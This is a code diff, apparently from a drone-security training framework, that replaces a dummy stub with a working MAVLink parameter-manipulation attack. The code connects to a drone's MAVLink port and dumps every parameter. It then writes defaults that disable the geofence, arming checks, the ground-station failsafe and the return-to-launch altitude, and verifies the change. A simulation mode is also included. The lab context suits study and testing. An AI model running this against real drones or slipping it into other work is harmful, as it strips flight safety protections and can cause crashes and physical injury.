@@ -1,25 +1,78 @@
 # dvd_lite/dvd_attacks/injection/parameter_manipulation.py
 """
-ParameterManipulation 공격 (더미 구현)
+ParameterManipulation 공격
+ParameterEngine으로 변경 전 파라미터를 덤프하고, 안전 관련 파라미터를 일괄 변경·검증한 뒤
+변경 후 스냅샷과 비교한다. live=True면 실제 MAVLink 파라미터 프로토콜을 사용하고, 그 외에는 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, mavlink_port, changes(이름 → 값), window, timeout, snapshot_path
 """
 import asyncio
-import random
 from typing import Tuple, List, Dict, Any
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ... import mavlink
+from .param_engine import ParameterEngine, ParamTransferError, NUMPY_AVAILABLE
+
+# 안전장치 해제 (지오펜스, 시동 점검, GCS 페일세이프, 귀환 고도)
+DEFAULT_CHANGES = {
+    "FENCE_ENABLE": 0,
+    "ARMING_CHECK": 0,
+    "FS_GCS_ENABLE": 0,
+    "RTL_ALT": 0
+}
 
 class ParameterManipulation(BaseAttack):
     """ParameterManipulation 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.INJECTION
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
-        iocs = [f"PARAMETERMANIPULATION_IOC:dummy_indicator"]
-        details = {"success_rate": 0.7 if success else 0.2}
-        
+        changes = self.config.get("changes", DEFAULT_CHANGES)
+        details: Dict[str, Any] = {"requested_changes": dict(changes)}
+
+        if not self.config.get("live") or not NUMPY_AVAILABLE:
+            return await self._simulate(details)
+
+        target = (self.target_ip, self.config.get("mavlink_port", 14550))
+        async with await mavlink.MAVLinkClient.connect(target) as client:
+            engine = ParameterEngine(client, window=self.config.get("window", 16),
+                                     timeout=self.config.get("timeout", 0.5))
+            try:
+                before, fetch = await engine.fetch_all()
+                details["dump"] = fetch.to_dict()
+                self.record_progress(**details)
+                if self.config.get("snapshot_path"):
+                    before.save(self.config["snapshot_path"])
+
+                unknown = [name for name in changes if name not in before]
+                writes = {name: value for name, value in changes.items() if name in before}
+                report = await engine.set_many(writes, before)
+                details.update(write=report.to_dict(), unknown_parameters=unknown)
+                self.record_progress(**details)
+
+                after, _ = await engine.fetch_all()
+                details["diff"] = before.diff(after).to_dict()
+            except ParamTransferError as e:
+                details.update(error=str(e), success_rate=0.0)
+                return False, [], details
+
+        success = bool(report.applied) and not report.failed
+        details["success_rate"] = len(report.applied) / len(changes) if changes else 0.0
+        return success, self._iocs(details), details
+
+    async def _simulate(self, details: Dict[str, Any]) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """파라미터 쓰기 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
+        details = dict(details, success_rate=0.7 if success else 0.2)
+        iocs = [f"PARAM_MODIFIED:{name}={value}" for name, value in details["requested_changes"].items()]
+
         return success, iocs, details
+
+    def _iocs(self, details: Dict[str, Any]) -> List[str]:
+        iocs = [f"PARAM_MODIFIED:{name}={old:g}->{new:g}" for name, (old, new) in details["diff"]["changed"].items()]
+        iocs.append(f"PARAM_DUMP:{self.target_ip}:{details['dump']['received']}_params")
+        return iocs